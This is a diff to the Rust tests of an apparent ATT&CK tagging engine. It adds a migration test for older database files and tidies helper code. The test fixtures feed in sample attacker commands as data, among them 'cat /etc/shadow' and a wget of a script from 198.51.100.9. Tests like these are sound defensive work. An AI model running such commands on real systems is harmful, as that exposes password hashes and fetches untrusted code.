@@ -91,8 +91,14 @@ fn decnet_db(dir: &Path) -> PathBuf {
 /// Our own file, written by `ttp tag`.
 fn own_db(dir: &Path) -> PathBuf {
     let db = dir.join("own.db");
+    own_db_events(&db);
+    db
+}
+
+/// `ttp tag` of the events of [`own_db`] into `db`.
+fn own_db_events(db: &Path) {
     tag(
-        &db,
+        db,
         &[
             r#"{"source_kind":"command","source_id":"1","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"cat /etc/shadow"}}"#,
             r#"{"source_kind":"command","source_id":"2","attacker_uuid":"a1","session_id":"s1","payload":{"command_text":"sudo -l"}}"#,
@@ -100,7 +106,6 @@ fn own_db(dir: &Path) -> PathBuf {
             r#"{"source_kind":"command","source_id":"4","identity_uuid":"i1","payload":{"command_text":"wget http://198.51.100.9/x.sh"}}"#,
         ],
     );
-    db
 }
 
 /// `ttp tag` of `events` into `db`.
@@ -314,12 +319,69 @@ fn the_documented_queries_run_and_answer_as_the_library_does() {
         .any(|r| text(&r[2]).as_deref() == Some("Brute Force: Password Guessing")));
 }
 
-/// A file written by an older build (schema version 3) gains the views in
-/// place, its tags untouched.
+/// `tests/data/own-schema-5.db`: `ttp tag` of [`own_db`]'s events by the
+/// release before partitions (schema 5: one `ttp_tag` table), copied.
+fn schema_5_file(dir: &Path) -> PathBuf {
+    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/own-schema-5.db");
+    let db = dir.join("old.db");
+    std::fs::copy(&src, &db).unwrap();
+    db
+}
+
+fn count(c: &Connection, sql: &str) -> i64 {
+    c.query_row(sql, [], |r| r.get(0)).unwrap()
+}
+
+/// A file written by the release before partitions is migrated in place:
+/// its table becomes partition 1 under the view `ttp_tag`, every tag and
+/// total kept; later tags go on into it, a replay adds nothing.
+#[test]
+fn a_file_of_the_previous_release_is_migrated_in_place() {
+    let work = tempfile::TempDir::new().unwrap();
+    let db = schema_5_file(work.path());
+    let c = Connection::open(&db).unwrap();
+    assert_eq!(count(&c, "PRAGMA user_version"), 5);
+    let before = count(&c, "SELECT count(*) FROM ttp_tag");
+    assert!(before >= 3, "{before}");
+    let fleet_before = scanned(&c);
+    drop(c);
+    ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
+    let c = Connection::open(&db).unwrap();
+    assert_eq!(
+        count(&c, "PRAGMA user_version"),
+        ttp_engine::store::SCHEMA_VERSION
+    );
+    assert_eq!(
+        count(
+            &c,
+            "SELECT count(*) FROM sqlite_master WHERE type = 'view' AND name = 'ttp_tag'"
+        ),
+        1
+    );
+    assert_eq!(count(&c, "SELECT count(*) FROM ttp_tag_p000001"), before);
+    assert_eq!(scanned(&c), fleet_before);
+    assert_eq!(from_library(&db), fleet_before);
+    check_views(&db);
+    // The same events again: nothing new; other events: stored.
+    own_db_events(&db);
+    assert_eq!(count(&c, "SELECT count(*) FROM ttp_tag"), before);
+    tag(
+        &db,
+        &[
+            r#"{"source_kind":"command","source_id":"9","attacker_uuid":"a3","payload":{"command_text":"sudo -l"}}"#,
+        ],
+    );
+    assert!(count(&c, "SELECT count(*) FROM ttp_tag") > before);
+    assert_eq!(scanned(&c), from_library(&db));
+    check_views(&db);
+}
+
+/// Older still (schema 3: no views, no totals): migrated in place through
+/// every step, its tags untouched.
 #[test]
 fn an_older_file_is_migrated_in_place() {
     let work = tempfile::TempDir::new().unwrap();
-    let db = own_db(work.path());
+    let db = schema_5_file(work.path());
     {
         let c = Connection::open(&db).unwrap();
         c.execute_batch(
@@ -331,31 +393,23 @@ fn an_older_file_is_migrated_in_place() {
         )
         .unwrap();
     }
-    let before: i64 = Connection::open(&db)
-        .unwrap()
-        .query_row("SELECT count(*) FROM ttp_tag", [], |r| r.get(0))
-        .unwrap();
+    let before: i64 = count(
+        &Connection::open(&db).unwrap(),
+        "SELECT count(*) FROM ttp_tag",
+    );
     ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
     let c = Connection::open(&db).unwrap();
-    let v: i64 = c
-        .query_row("PRAGMA user_version", [], |r| r.get(0))
-        .unwrap();
-    assert_eq!(v, ttp_engine::store::SCHEMA_VERSION);
-    let after: i64 = c
-        .query_row("SELECT count(*) FROM ttp_tag_named", [], |r| r.get(0))
-        .unwrap();
-    assert_eq!(before, after);
+    assert_eq!(
+        count(&c, "PRAGMA user_version"),
+        ttp_engine::store::SCHEMA_VERSION
+    );
+    assert_eq!(count(&c, "SELECT count(*) FROM ttp_tag_named"), before);
     check_views(&db);
     // A stale ATT&CK release is replaced on the next open.
     c.execute_batch("UPDATE ttp_attack_release SET release = 'enterprise-attack-v1'; DELETE FROM ttp_attack_technique")
         .unwrap();
     ttp_engine::store::open(&db, &ttp_engine::store::StoreOptions::default()).unwrap();
-    let n: i64 = c
-        .query_row("SELECT count(*) FROM ttp_attack_technique", [], |r| {
-            r.get(0)
-        })
-        .unwrap();
-    assert!(n > 800, "{n}");
+    assert!(count(&c, "SELECT count(*) FROM ttp_attack_technique") > 800);
 }
 
 /// A fleet rollup row: technique, sub-technique, tactic, count, first and
